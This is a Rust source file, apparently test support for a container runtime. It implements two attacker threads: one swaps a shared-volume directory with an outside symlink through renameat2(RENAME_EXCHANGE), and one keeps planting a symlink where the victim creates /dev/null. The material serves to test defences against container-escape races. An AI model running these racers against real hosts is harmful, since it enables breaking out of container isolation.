//! The attacker of the mount-destination race (class 2): a container sharing a volume with the
//! one being created, played by a thread acting on the volume's host directory, which swaps a
//! directory and a symlink to outside every container with `renameat2(RENAME_EXCHANGE)` as fast
//! as it can; and the attacker of the masked-path race, which keeps planting a symlink where the
//! victim makes its `/dev/null`.

use std::ffi::CString;
use std::os::unix::ffi::OsStrExt;
use std::path::Path;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread::JoinHandle;

/// A running exchange of two paths; [`Exchanger::stop`] ends it.
pub struct Exchanger {
    stop: Arc<AtomicBool>,
    thread: JoinHandle<u64>,
}

impl Exchanger {
    /// Starts swapping `a` and `b` (both must exist) in a loop.
    pub fn start(a: &Path, b: &Path) -> Exchanger {
        let c = |p: &Path| CString::new(p.as_os_str().as_bytes()).unwrap();
        let (a, b) = (c(a), c(b));
        let stop = Arc::new(AtomicBool::new(false));
        let flag = stop.clone();
        let thread = std::thread::spawn(move || {
            let mut swaps = 0u64;
            while !flag.load(Ordering::Relaxed) {
                // SAFETY: renameat2 reads the two path strings only.
                let rc = unsafe {
                    libc::syscall(
                        libc::SYS_renameat2,
                        libc::AT_FDCWD,
                        a.as_ptr(),
                        libc::AT_FDCWD,
                        b.as_ptr(),
                        libc::RENAME_EXCHANGE,
                    )
                };
                assert_eq!(rc, 0, "renameat2: {}", std::io::Error::last_os_error());
                swaps += 1;
            }
            swaps
        });
        Exchanger { stop, thread }
    }

    /// Stops the swapping; returns how many swaps were made.
    pub fn stop(self) -> u64 {
        self.stop.store(true, Ordering::Relaxed);
        self.thread.join().expect("the exchanger panicked")
    }
}

/// A running planting of a symlink; [`Planter::stop`] ends it.
pub struct Planter {
    stop: Arc<AtomicBool>,
    thread: JoinHandle<u64>,
}

impl Planter {
    /// Starts putting a symlink to `target` at `at` in a loop (made beside it, then renamed
    /// over whatever `at` is), so that whatever the victim makes at `at` is soon the link.
    pub fn start(at: &Path, target: &Path) -> Planter {
        let c = |p: &Path| CString::new(p.as_os_str().as_bytes()).unwrap();
        let temp = at.with_extension("planted");
        let (at, temp, target) = (c(at), c(&temp), c(target));
        let stop = Arc::new(AtomicBool::new(false));
        let flag = stop.clone();
        let thread = std::thread::spawn(move || {
            let mut plants = 0u64;
            while !flag.load(Ordering::Relaxed) {
                // SAFETY: symlink and rename read the path strings only.
                let rc = unsafe {
                    libc::symlink(target.as_ptr(), temp.as_ptr());
                    libc::rename(temp.as_ptr(), at.as_ptr())
                };
                assert_eq!(rc, 0, "rename: {}", std::io::Error::last_os_error());
                plants += 1;
            }
            plants
        });
        Planter { stop, thread }
    }

    /// Stops the planting; returns how many links were planted.
    pub fn stop(self) -> u64 {
        self.stop.store(true, Ordering::Relaxed);
        self.thread.join().expect("the planter panicked")
    }
}
